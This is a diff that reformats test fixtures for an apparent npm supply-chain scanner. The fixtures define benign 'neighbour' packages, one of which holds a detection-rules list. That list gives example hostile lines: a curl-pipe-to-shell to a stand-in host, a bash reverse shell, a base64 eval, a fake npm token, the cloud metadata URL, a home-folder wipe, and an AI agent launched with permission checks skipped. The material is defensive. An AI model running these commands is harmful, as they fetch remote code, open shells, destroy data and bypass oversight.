@@ -23,7 +23,8 @@ export const neighboursImport: readonly Simulant[] = [
             };
             exports.next = (version) => String(version).replace(/\d+$/, (patch) => Number(patch) + 1);
           `,
-          'bin/release.js': "#!/usr/bin/env node\nconsole.log('usage: release --registry <url> --token-file <file>');\n",
+          'bin/release.js':
+            "#!/usr/bin/env node\nconsole.log('usage: release --registry <url> --token-file <file>');\n",
         },
         { bin: { release: 'bin/release.js' } },
       ),
@@ -52,7 +53,8 @@ export const neighboursImport: readonly Simulant[] = [
               return { parsed };
             };
           `,
-          'bin/env.js': "#!/usr/bin/env node\nfor (const name of Object.keys(require('../index.js').config().parsed)) console.log(name + '=' + process.env[name]);\n",
+          'bin/env.js':
+            "#!/usr/bin/env node\nfor (const name of Object.keys(require('../index.js').config().parsed)) console.log(name + '=' + process.env[name]);\n",
         },
         { bin: { 'simulant-env': 'bin/env.js' } },
       ),
@@ -129,7 +131,9 @@ export const neighboursImport: readonly Simulant[] = [
         `,
       }),
     ],
-    expect: quiet(['hook.global-patch', 'hook.address-rewrite', 'exfil.'], { allowed: { 'hook.instrumentation': 'low' } }),
+    expect: quiet(['hook.global-patch', 'hook.address-rewrite', 'exfil.'], {
+      allowed: { 'hook.instrumentation': 'low' },
+    }),
     note: 'Replaces fetch when told and puts it back.',
   },
   {
@@ -221,7 +225,12 @@ export const neighboursImport: readonly Simulant[] = [
     near: ['B12', 'B33'],
     kind: 'neighbour',
     form: 'heavy',
-    packages: [pkg('g14-bundle', { 'dist/index.min.js': bundle(600), 'index.js': text`module.exports = require('./dist/index.min.js');` })],
+    packages: [
+      pkg('g14-bundle', {
+        'dist/index.min.js': bundle(600),
+        'index.js': text`module.exports = require('./dist/index.min.js');`,
+      }),
+    ],
     expect: quiet(['exec.encoded-payload', 'vsx.', 'evade.', 'flow.']),
     note: 'Six hundred minified modules on one line, a WebAssembly module and an inlined picture in base64, child_process in one of them.',
   },
@@ -279,7 +288,9 @@ export const neighboursImport: readonly Simulant[] = [
     ],
     expect: quiet(['exfil.host-info', 'exfil.canary-egress', 'c2.', 'net.import-egress'], {
       allowed: { 'net.egress': 'low' },
-      findings: [{ id: 'net.egress', severityAtLeast: 'info', phase: ['execute'], evidenceTypes: [['net.http', 'net.connect']] }],
+      findings: [
+        { id: 'net.egress', severityAtLeast: 'info', phase: ['execute'], evidenceTypes: [['net.http', 'net.connect']] },
+      ],
     }),
     note: 'Event name, Node version and platform, when called.',
   },
@@ -322,7 +333,10 @@ export const neighboursImport: readonly Simulant[] = [
           { id: 'pipe-to-shell', example: 'curl http://stage.simulant.invalid/i.sh | sh' },
           { id: 'reverse-shell', example: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
           { id: 'decoded-eval', example: "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())" },
-          { id: 'npm-token', example: '//registry.simulant.invalid/:_authToken=npm_SIMULANTSIMULANTSIMULANTSIMULANT0000' },
+          {
+            id: 'npm-token',
+            example: '//registry.simulant.invalid/:_authToken=npm_SIMULANTSIMULANTSIMULANTSIMULANT0000',
+          },
           { id: 'metadata', example: 'http://169.254.169.254/latest/meta-data/' },
           { id: 'wipe', example: 'rm -r ~/Documents' },
           { id: 'agent', example: 'claude --dangerously-skip-permissions -p x' },
@@ -331,7 +345,8 @@ export const neighboursImport: readonly Simulant[] = [
           const rules = require('./rules.json');
           exports.match = (line) => rules.filter((rule) => String(line).includes(rule.example)).map((rule) => rule.id);
         `,
-        'test/fixtures/bad.sh': '# Matched by the rules, never run.\ncurl http://stage.simulant.invalid/i.sh | sh\n',
+        'test/fixtures/bad.sh.txt':
+          '# Matched by the rules, never run.\ncurl http://stage.simulant.invalid/i.sh | sh\n',
       }),
     ],
     expect: quiet(['exec.', 'c2.', 'cred.', 'destroy.', 'ai.', 'net.']),
@@ -365,7 +380,10 @@ export const neighboursImport: readonly Simulant[] = [
 function bundle(modules: number): string {
   const wasm = 'AGFzbQEAAAABBwFgAn9/AX8DAgEABwcBA2FkZAAACgkBBwAgACABags=';
   const picture = Buffer.from(Array.from({ length: 900 }, (_, i) => (i * 37) % 251)).toString('base64');
-  const parts = Array.from({ length: modules }, (_, i) => `${i}:(e,t,n)=>{t.a=e=>e*${i}+${(i * 7919) % 1000};t.b=r=>"${i.toString(36)}"+r}`);
+  const parts = Array.from(
+    { length: modules },
+    (_, i) => `${i}:(e,t,n)=>{t.a=e=>e*${i}+${(i * 7919) % 1000};t.b=r=>"${i.toString(36)}"+r}`,
+  );
   parts.push(`9001:(e,t,n)=>{t.run=(e,r)=>require("child_process").execFile(e,r)}`);
   parts.push(`9002:(e,t,n)=>{t.w=()=>new WebAssembly.Module(Uint8Array.from(atob("${wasm}"),e=>e.charCodeAt(0)))}`);
   parts.push(`9003:(e,t,n)=>{t.p="data:image/png;base64,${picture}"}`);
